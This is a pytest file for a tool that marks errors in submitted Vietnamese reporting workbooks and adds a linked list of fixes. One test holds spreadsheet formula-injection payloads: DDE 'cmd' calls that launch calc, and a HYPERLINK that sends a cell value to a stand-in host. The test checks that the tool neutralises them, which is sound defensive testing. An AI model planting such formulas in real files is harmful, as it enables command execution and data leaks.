"""The marked workbook: the sender's own file, coloured, noted, with a list that leads to cells."""

import dataclasses
import io
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment

from pipelines.reports.feedback import BLANK, Letter
from pipelines.reports.feedback_book import AUTHOR, feedback_book, reaches_out
from pipelines.reports.feedback_sheet import COLOURS, SHEET_NAME
from tests.cases.building import ROOT, UNITS, build
from tests.reports.letters import POINT, checked, letter, point

SHEET, CELL = "Biểu 02-CQ", "E11"


@pytest.fixture(scope="module")
def source() -> bytes:
    return build("x", {"set": {"cq.publish_due": "nhiều"}})[1]


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def edited(data: bytes, change: Callable[[Any], None]) -> bytes:
    book, out = opened(data), io.BytesIO()
    change(book)
    book.save(out)
    return out.getvalue()


def listed(data: bytes) -> list[dict[str, object]]:
    """Rows of the list by heading."""
    rows = [[cell.value for cell in row] for row in opened(data)[SHEET_NAME].iter_rows()]
    top = next(number for number, row in enumerate(rows) if row[0] == "Số")
    return [dict(zip(rows[top], row, strict=False)) for row in rows[top + 1 :]]


def test_marks_the_cell_that_is_wrong(source: bytes, tmp_path: Path) -> None:
    _, told = checked(source, tmp_path)
    (only,) = told.points
    data, is_own = feedback_book(told, source)
    book = opened(data)
    cell = book[only.sheet][only.cell]
    assert is_own
    assert book.sheetnames[0] == SHEET_NAME
    assert cell.value == "nhiều"
    assert cell.fill.fgColor.rgb == COLOURS["error"]
    assert not cell.protection.locked
    for said in ("PHẢI SỬA", only.code, "Thấy: nhiều", f"Cần: {only.expected}", only.action):
        assert said in cell.comment.text
    others = [c for s in book.worksheets[1:] for row in s.iter_rows() for c in row if c.comment]
    assert [c.coordinate for c in others] == [only.cell]


def test_list_leads_to_the_cell_and_says_what_to_do(source: bytes, tmp_path: Path) -> None:
    _, told = checked(source, tmp_path)
    (only,) = told.points
    data, _ = feedback_book(told, source)
    (row,) = listed(data)
    assert (row["Số"], row["Trang"], row["Ô"], row["Mã"]) == (1, only.sheet, only.cell, only.code)
    assert row["Thấy (tệp đang ghi)"] == "nhiều"
    assert row["Cần (giá trị hợp lệ)"] == only.expected
    assert row["Căn cứ"] == only.basis
    assert row["Việc cần làm"] == only.action
    links = [c.hyperlink.location for r in opened(data)[SHEET_NAME].iter_rows() for c in r
             if c.hyperlink]  # fmt: skip
    assert links == [f"'{only.sheet}'!{only.cell}"]


def test_of_two_cells_the_named_one_is_quoted(tmp_path: Path) -> None:
    _, told = checked(build("x", {"set": {"cq.conference_on": None}})[1], tmp_path)
    (only,) = (p for p in told.points if p.code == "C02")
    assert only.found == BLANK
    assert "C01 = Có, C02 để trống" in only.message


def test_everything_else_stays_as_it_was(source: bytes, tmp_path: Path) -> None:
    _, told = checked(source, tmp_path)
    before, after = opened(source), opened(feedback_book(told, source)[0])
    assert after.sheetnames[1:] == before.sheetnames
    assert {n: d.attr_text for n, d in after.defined_names.items()} == {
        n: d.attr_text for n, d in before.defined_names.items()
    }
    for sheet in before.worksheets:
        other = after[sheet.title]
        assert [[c.value for c in row] for row in sheet.iter_rows()] == [
            [c.value for c in row] for row in other.iter_rows()
        ]
        assert other.protection.sheet == sheet.protection.sheet
        assert len(other.data_validations.dataValidation) == len(
            sheet.data_validations.dataValidation
        )
        # sheets selected together would take one and the same typing
        assert not other.sheet_view.tabSelected


def test_sent_back_unchanged_it_is_judged_as_before(source: bytes, tmp_path: Path) -> None:
    done, told = checked(source, tmp_path)
    again, _ = checked(feedback_book(told, source)[0], tmp_path)
    columns = ["sheet", "cell", "rule", "found", "expected"]
    assert again.findings[columns].equals(done.findings[columns])
    own = again.accounts[again.accounts["sheet"] == SHEET_NAME]
    assert own["fate"].tolist() == ["label"]


def test_an_earlier_answer_is_taken_off(source: bytes, tmp_path: Path) -> None:
    _, told = checked(source, tmp_path)
    (only,) = told.points
    first = feedback_book(told, source)[0]

    def mend(book: Any) -> None:
        book[only.sheet][only.cell] = 6

    mended = edited(first, mend)
    done, better = checked(mended, tmp_path)
    assert done.findings.empty
    book = opened(feedback_book(better, mended)[0])
    cell, was = book[only.sheet][only.cell], opened(source)[only.sheet][only.cell]
    assert book.sheetnames.count(SHEET_NAME) == 1
    assert cell.comment is None
    assert cell.fill.fgColor.rgb == was.fill.fgColor.rgb


def test_a_comment_of_the_sender_stays(source: bytes, tmp_path: Path) -> None:
    _, told = checked(source, tmp_path)
    (only,) = told.points

    def note(book: Any) -> None:
        book[only.sheet][only.cell].comment = Comment("theo công văn 15", "văn thư")

    data, _ = feedback_book(told, edited(source, note))
    assert "theo công văn 15" in opened(data)[only.sheet][only.cell].comment.text
    clean = feedback_book(dataclasses.replace(told, points=()), data)[0]
    comment = opened(clean)[only.sheet][only.cell].comment
    assert comment.text == "theo công văn 15"
    assert comment.author != AUTHOR


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /c calc'!A1", "=1+cmd|'/c \"calc'!A1&\"\"", "='cmd'|'/c'!A1",
        '=HYPERLINK("http://x.example/"&E11)', "=HYPERLINK(A1)", '=HYPERLINK("#x"&A1,"x")',
        '=HYPERLINK(IF(1,A1),IF(2,"#x","#y"))', '=HYPERLINK("#x",WEBSERVICE(A1))',
        "=[1]Sheet1!A1", "=[1]!ten", "='[1]Sổ A'!A1", "='C:\\x\\[a.xlsx]S'!A1",
        "='a\"'!A1+[1]S!A1+'\"'!B1",
    ],
)  # fmt: skip
def test_formulas_that_reach_out_become_texts(source: bytes, formula: str) -> None:
    def inject(book: Any) -> None:
        book[SHEET]["H30"] = formula

    cell = opened(feedback_book(letter(), edited(source, inject))[0])[SHEET]["H30"]
    assert cell.data_type == "s"
    assert cell.value == "'" + formula


@pytest.mark.parametrize(
    "formula",
    ['=E11&"|"&E12', "='Sổ|A'!B2", "=SUM(T[c])", '=IF(E11="[x]!",1,2)', '=HYPERLINK("#E11","b")'],
)
def test_formulas_that_stay_within_the_file_stay(formula: str) -> None:
    assert not reaches_out(formula)


@pytest.mark.parametrize("form_id", ["xa-2021", "cq-2021", "dn-2021"])
def test_the_forms_own_check_sheet_stays(form_id: str, tmp_path: Path) -> None:
    provider = UNITS[form_id]
    data = (ROOT / "raw" / "2021-H1" / provider / f"{form_id}_2021-H1.xlsx").read_bytes()
    done, told = checked(data, tmp_path)
    back = feedback_book(told, data)[0]
    before, after = (formulas(book) for book in (data, back))
    assert len(before) > 50
    assert after == before
    again, _ = checked(back, tmp_path)
    columns = ["sheet", "cell", "rule", "found", "expected"]
    assert again.findings[columns].equals(done.findings[columns])


def formulas(data: bytes) -> dict[tuple[str, str], str]:
    """Formulas of a book by sheet and cell, without those of the list."""
    return {
        (sheet.title, cell.coordinate): str(cell.value)
        for sheet in opened(data).worksheets
        if sheet.title != SHEET_NAME
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


@pytest.mark.parametrize("text", ["=1+1", "+84", "@SUM(A1)", "-2+3"])
def test_texts_that_look_like_formulas_stay_texts(source: bytes, text: str) -> None:
    told = letter(point(found=text, sheet=SHEET), file_name=f"{text}.xlsx", unit=text)
    data, _ = feedback_book(told, source)
    (row,) = listed(data)
    assert row["Thấy (tệp đang ghi)"] == "'" + text
    cells = [c for r in opened(data)[SHEET_NAME].iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]


def test_results_of_formulas_stay(source: bytes) -> None:
    def compute(book: Any) -> None:
        book[SHEET]["H30"] = "=E11+1"

    package = zipfile.ZipFile(io.BytesIO(edited(source, compute)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in package.namelist():
            member = package.read(name).replace(b"<f>E11+1</f><v />", b"<f>E11+1</f><v>7</v>")
            member = member.replace(b"<f>E11+1</f><v></v>", b"<f>E11+1</f><v>7</v>")
            target.writestr(name, member)
    data = feedback_book(letter(POINT), out.getvalue())[0]
    values = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    assert values[SHEET]["H30"].value == 7
    assert opened(data)[SHEET]["H30"].value == "=E11+1"


def test_equal_letters_give_equal_bytes(source: bytes, tmp_path: Path) -> None:
    _, told = checked(source, tmp_path)
    assert feedback_book(told, source) == feedback_book(told, source)


def test_merged_hidden_and_absent_places(source: bytes) -> None:
    def hide(book: Any) -> None:
        book[SHEET].merge_cells("H30:I31")
        book[SHEET].row_dimensions[30].hidden = True
        book[SHEET].sheet_state = "hidden"
        book.create_sheet("Trang khác")

    told = letter(
        point(sheet=SHEET, cell="I31"), point(number=2, sheet="Không có", cell="A1"),
        point(number=3, sheet=SHEET, cell=None), point(number=4, sheet=None, cell=None),
    )  # fmt: skip
    data, _ = feedback_book(told, edited(source, hide))
    book = opened(data)
    assert book[SHEET]["H30"].fill.fgColor.rgb == COLOURS["error"]
    assert book[SHEET].sheet_state == "visible"
    assert not book[SHEET].row_dimensions[30].hidden
    assert [row["Trang"] for row in listed(data)] == [SHEET, "Không có", SHEET, "Cả tệp"]


@pytest.mark.parametrize("data", [None, b"", b"%PDF-1.7", b"PK\x03\x04 torn"])
def test_without_a_workbook_there_is_the_list(data: bytes | None) -> None:
    written, is_own = feedback_book(letter(POINT), data)
    assert not is_own
    assert opened(written).sheetnames == [SHEET_NAME]
    assert listed(written)[0]["Ô"] == "E19"


def test_a_gravest_colour_wins_and_the_note_holds_all(source: bytes) -> None:
    told = letter(
        point(sheet=SHEET, cell=CELL, severity="review"),
        point(sheet=SHEET, cell=CELL, number=2, severity="warning", message="Thiếu."),
    )
    cell = opened(feedback_book(told, source)[0])[SHEET][CELL]
    assert cell.fill.fgColor.rgb == COLOURS["warning"]
    assert cell.comment.text.index("Thiếu.") < cell.comment.text.index("CẦN ĐỐI CHIẾU")


@pytest.mark.tool("libreoffice", "pdftoppm")
def test_libreoffice_shows_the_colour(
    source: bytes, tmp_path: Path, tool_path: Callable[[str], Path]
) -> None:
    _, told = checked(source, tmp_path)
    picture = printed(told, source, tmp_path, tool_path)
    colour = tuple(bytes.fromhex(COLOURS["error"][2:]))
    assert any(near(pixel, colour) for pixel in picture)


def near(pixel: tuple[int, ...], colour: tuple[int, ...]) -> bool:
    return all(abs(a - b) <= 3 for a, b in zip(pixel, colour, strict=True))


def printed(
    told: Letter, source: bytes, folder: Path, tool_path: Callable[[str], Path]
) -> set[tuple[int, ...]]:
    """Colours of the second printed sheet, the first of the form."""
    (folder / "phieu.xlsx").write_bytes(feedback_book(told, source)[0])
    office = [str(tool_path("libreoffice")), f"-env:UserInstallation={(folder / 'p').as_uri()}"]
    convert = ["--headless", "--convert-to", "pdf", "--outdir", str(folder)]
    subprocess.run([*office, *convert, str(folder / "phieu.xlsx")], check=True, timeout=120,
                   capture_output=True)  # fmt: skip
    draw = [str(tool_path("pdftoppm")), "-r", "40", "-f", "2", "-l", "2"]
    subprocess.run([*draw, str(folder / "phieu.pdf"), str(folder / "trang")], check=True)
    (page,) = folder.glob("trang*.ppm")
    data = page.read_bytes().split(b"\n", 3)[3]
    return {tuple(data[i : i + 3]) for i in range(0, len(data), 3)}
